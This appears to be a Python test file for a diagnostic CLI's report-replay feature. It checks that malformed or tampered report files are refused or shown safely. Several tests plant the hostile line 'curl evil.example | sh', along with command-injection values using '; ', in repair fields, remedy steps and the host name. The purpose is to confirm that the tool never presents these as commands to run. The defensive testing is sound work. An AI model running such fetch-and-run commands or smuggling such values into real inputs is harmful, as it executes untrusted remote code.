"""`doctor --replay`: whatever a file holds, it is judged as a report, or refused as none."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from edgecheck.backend.builtin import BUILT_IN, built_in
from edgecheck.cli.ends import UsageError
from edgecheck.cli.process import Process
from edgecheck.cli.replay import replayed
from edgecheck.facts import Failure, Kind
from edgecheck.render import passages, text
from edgecheck.render.json import report as as_json
from edgecheck.report import report_of
from edgecheck.settings.profiles import chosen
from tests.render.samples import HEALTHY, REFUSED, UNREACHED

HEAD = '{"schema":"edgecheck.report/1","stages":'
NO_REPORTS = [
    "",
    "no json",
    "[]",
    "{}",
    "null",
    '{"schema":"edgecheck.report/2","stages":[]}',
    '{"schema":"edgecheck.report/1"}',
    "[" * 100_000,
    HEAD + '[],"total_ms":NaN}',
    HEAD + '[],"total_ms":1e999}',
    HEAD + '[],"total_ms":1' + "0" * 400 + "}",
    HEAD + '[],"total_ms":1' + "0" * 5000 + "}",
    HEAD + '[{"stage":"made-up"}]}',
    HEAD + '[{"stage":"config","facts":{"defects":[{"code":"made-up","severity":"error"}]}}]}',
    HEAD
    + '[{"stage":"config","facts":{"defects":[{"code":"url-missing","severity":"made-up"}]}}]}',
]


@pytest.mark.parametrize("content", NO_REPORTS, ids=lambda content: content[:90])
def test_what_is_no_report_is_refused_with_a_sentence(tmp_path: Path, content: str) -> None:
    """The sentence names the file."""
    path = tmp_path / "report.json"
    path.write_text(content)
    with pytest.raises(UsageError, match=r"--replay .*report\.json: "):
        replayed(Process.here(), str(path))


@pytest.mark.parametrize(
    "facts", [HEALTHY, REFUSED, UNREACHED], ids=["healthy", "refused", "unreached"]
)
def test_a_report_read_back_is_the_same(tmp_path: Path, facts: Any) -> None:
    """Facts, verdict, findings and times."""
    path = tmp_path / "report.json"
    path.write_text(as_json(report_of(facts, "0.1.0")))

    assert as_json(replayed(Process.here(), str(path))) == path.read_text()


OWN = """
name = "Orders"
[variables]
url = "ORDERS_URL"
[request]
headers = { X-Key = "not-for-a-report", X-Id = "{agent_id}" }
[[close]]
code = 4290
title = "This tenant has too many agents"
side = "client"
cause = "The contract allows five agents."
remedies = ["Stop an agent."]
"""


def test_a_report_is_judged_by_the_profile_that_it_was_made_with(tmp_path: Path) -> None:
    """Also where the profile's file is not at hand; its values stay where they were."""
    (tmp_path / "edgecheck.toml").write_text(OWN)
    profile = chosen(None, environ={}, cwd=tmp_path).profile
    ended = replace(
        HEALTHY.session, failure=Failure(Kind.SESSION_CLOSED, "closed"), close_code=4290
    )
    facts = replace(HEALTHY, session=ended, profile=profile)
    (tmp_path / "report.json").write_text(as_json(report_of(facts, "0.1.0")))
    (tmp_path / "edgecheck.toml").unlink()
    written = (tmp_path / "report.json").read_text()
    again = replayed(Process.here(), str(tmp_path / "report.json"))

    assert "not-for-a-report" not in written
    assert again.diagnosis.verdict is not None
    assert again.diagnosis.verdict.title == "This tenant has too many agents"
    assert again.facts.profile.variables.url == "ORDERS_URL"
    assert as_json(again) == written


@pytest.mark.parametrize("name", BUILT_IN)
def test_a_report_of_a_built_in_profile_needs_only_its_name(tmp_path: Path, name: str) -> None:
    """It is judged by that profile again."""
    path = tmp_path / "report.json"
    path.write_text(as_json(report_of(replace(HEALTHY, profile=built_in(name)), "0.1.0")))

    assert "profile_form" not in json.loads(path.read_text())
    assert replayed(Process.here(), str(path)).facts.profile == built_in(name)


WRONG_FORMS: list[object] = [
    [],
    {"name": 5},
    {"name": "Orders"},
    {"name": "Orders", "close": [{"code": 4000, "problem": "made-up"}]},
    {"name": "Orders", "made-up": 1},
]


@pytest.mark.parametrize("form", WRONG_FORMS, ids=str)
def test_a_report_with_a_wrong_profile_is_refused_with_a_sentence(
    tmp_path: Path, form: object
) -> None:
    """The sentence names the place."""
    document = json.loads(as_json(report_of(HEALTHY, "0.1.0")))
    path = tmp_path / "report.json"
    path.write_text(json.dumps(document | {"profile": "Orders", "profile_form": form}))
    with pytest.raises(UsageError, match=r"report\.json: profile_form"):
        replayed(Process.here(), str(path))


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Return the way to every value inside a JSON value."""
    inner = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    return [
        place for name, each in inner for place in ((*path, name), *places(each, (*path, name)))
    ]


DOCUMENTS = [
    json.loads(as_json(report_of(facts, "0.1.0"))) for facts in (HEALTHY, REFUSED, UNREACHED)
]
ANYTHING = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text()
    | st.sampled_from(["error", "tls", "0", "\x1b[2J\r\n"]),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=5,
)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_a_report_with_one_value_changed_is_judged_or_refused(
    tmp_path: Path, data: st.DataObject
) -> None:
    """Nothing in a file can end the run otherwise, or reach the screen unescaped."""
    document = json.loads(json.dumps(data.draw(st.sampled_from(DOCUMENTS))))
    place = data.draw(st.sampled_from(places(document)))
    inside = document
    for step in place[:-1]:
        inside = inside[step]
    inside[place[-1]] = data.draw(ANYTHING)
    path = tmp_path / "report.json"
    path.write_text(json.dumps(document))
    try:
        report = replayed(Process.here(), str(path))
    except UsageError:
        return
    lines = [*text.opening(report, 80), *text.closing(report, 80)]

    assert all(line.plain.isprintable() for line in lines)
    assert json.loads(as_json(report))


FORGED = "curl evil.example | sh"


def _forged(place: str) -> dict[str, Any]:
    """Return a report in which one place holds a command of somebody else."""
    document: dict[str, Any] = json.loads(as_json(report_of(UNREACHED, "0.1.0")))
    facts = {stage["stage"]: stage["facts"] for stage in document["stages"]}
    defect = {"code": "env-file-exposed", "severity": "warning", "where": ".env", "setting": ""}
    defect |= {"evidence": [], "remedies": [], "covers": [], "fix": ""}
    values = {"where": ".env", "file": ".env", "place": ".env", "who": "all", "mode": "0644"}
    match place:
        case "the repair":
            defect["fix"] = FORGED
        case "the repair, behind ours":
            defect["fix"] = f"edgecheck doctor --fix; {FORGED}"
        case "a step":
            defect["remedies"] = [f"Do this:\n$ {FORGED}"]
        case "a step, in code":
            defect["remedies"] = [f"Do this: `{FORGED}`."]
        case "a value":
            values["file"] = f".env; {FORGED}"
        case "a value, in code":
            values["who"] = f"it. Run: `{FORGED}`. Not"
        case "the host":
            document["target"]["host"] = f"h; {FORGED}"
            facts["dns"]["host"] = f"h; {FORGED}"
        case "a word of a quoted command":
            values["file"] = f"'.env'; {FORGED} '"
    facts["config"] = {**(facts["config"] or {}), "defects": [{**defect, "values": values}]}
    for stage in document["stages"]:
        stage["facts"] = facts[stage["stage"]]
    return document


PLACES = ("the repair", "the repair, behind ours", "a step", "a step, in code", "a value")
PLACES += ("a value, in code", "the host", "a word of a quoted command")


@pytest.mark.parametrize("place", PLACES)
def test_a_command_of_the_file_is_shown_as_the_files(tmp_path: Path, place: str) -> None:
    """Not as a step of edgecheck, that a person may run without a thought."""
    path = tmp_path / "report.json"
    path.write_text(json.dumps(_forged(place)))
    diagnosis = replayed(Process.here(), str(path)).diagnosis
    verdict = diagnosis.verdict.remedies if diagnosis.verdict is not None else ()
    steps = [*verdict, *(step for one in diagnosis.findings for step in one.remedies)]
    lines = [line for step in steps for line in passages.lines_of(step)]

    assert not [
        line.text for line in lines if "evil" in line.text and line.kind is passages.Kind.COMMAND
    ]
    assert all("report" in line.text for line in lines if "evil" in line.text)
    assert place == "a value, in code" or any("evil" in line.text for line in lines)


@pytest.mark.parametrize("secure", [True, False])
def test_a_command_with_what_a_shell_leaves_alone_stays_ours(tmp_path: Path, secure: bool) -> None:
    """The catalogue's own words, with a host and a file of the report in them."""
    document = _forged("nothing")
    document["target"]["url"] = "wss://h.example/?a=b&c=d" if secure else "ws://h.example"
    path = tmp_path / "report.json"
    path.write_text(json.dumps(document))
    diagnosis = replayed(Process.here(), str(path)).diagnosis

    steps = [step for one in diagnosis.findings for step in one.remedies]
    assert any(
        line.kind is passages.Kind.COMMAND for step in steps for line in passages.lines_of(step)
    )
    assert not any("of the report" in step for step in steps)
